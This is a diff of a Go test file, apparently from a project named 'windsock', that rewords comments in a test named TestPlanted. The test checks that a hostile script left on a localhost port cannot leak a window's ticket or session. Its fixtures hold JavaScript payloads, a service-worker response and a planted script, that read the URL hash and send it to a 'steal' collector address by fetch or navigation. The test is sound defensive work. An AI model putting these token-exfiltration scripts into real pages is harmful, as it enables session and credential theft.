@@ -25,8 +25,8 @@ const (
 	collectorPort = 44000
 )
 
-// ownNetwork runs a test again, alone, in a network in which it may do with the ports
-// what it likes, and reports whether it runs there.
+// ownNetwork runs a test again, alone, in a network where all ports are free, and
+// reports whether it runs there.
 func ownNetwork(t *testing.T) bool {
 	t.Helper()
 	const inside = "WINDSOCK_TEST_NETWORK"
@@ -76,7 +76,7 @@ type stranger struct {
 func (s *stranger) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 	answer := func(kind, text string) {
 		w.Header().Set("Content-Type", kind)
-		_, _ = io.WriteString(w, text) // who does not listen is not told
+		_, _ = io.WriteString(w, text) // a lost client is ignored
 	}
 	switch r.URL.Path {
 	case "/":
@@ -126,10 +126,9 @@ func (s *stranger) listen(t *testing.T, port int) (letGo func()) {
 	return letGo
 }
 
-// TestPlanted: whoever had a page open on a port of 127.0.0.1 or localhost, once, at
-// any time, may have left a worker or a cached script there, which the browser keeps
-// by origin. The window gets such a port, and neither its ticket nor its session goes
-// anywhere.
+// TestPlanted: an earlier page on a port of 127.0.0.1 or localhost may have left a
+// worker or a cached script there, which the browser keeps by origin. The window gets
+// such a port, and neither its ticket nor its session leaks.
 func TestPlanted(t *testing.T) { //nolint:paralleltest // it changes the network's ports
 	if !ownNetwork(t) {
 		return
@@ -150,8 +149,8 @@ func TestPlanted(t *testing.T) { //nolint:paralleltest // it changes the network
 				"e.respondWith(new Response(`<main><section></section></main><script>fetch('/enter', {method: 'POST', body: new URLSearchParams({t: location.hash.slice(1)})})" +
 				".then((r) => fetch('" + steal + "' + r.status + location.hash.slice(1), {mode: 'no-cors'}))</scr` + `ipt>`, {headers: {'Content-Type': 'text/html'}})); } });",
 		}},
-		// It runs in the window's own page. What it finds leaves by a navigation, which no
-		// policy stops.
+		// It runs in the window's own page. It sends its findings by a navigation, which
+		// no policy stops.
 		{"script", 41000, &stranger{
 			page:   "<!doctype html><script src='/assets/boot.js'></script>",
 			script: "if (location.hash) { location.href = '" + steal + "' + location.hash.slice(1) } else { document.title = 'planted' }",
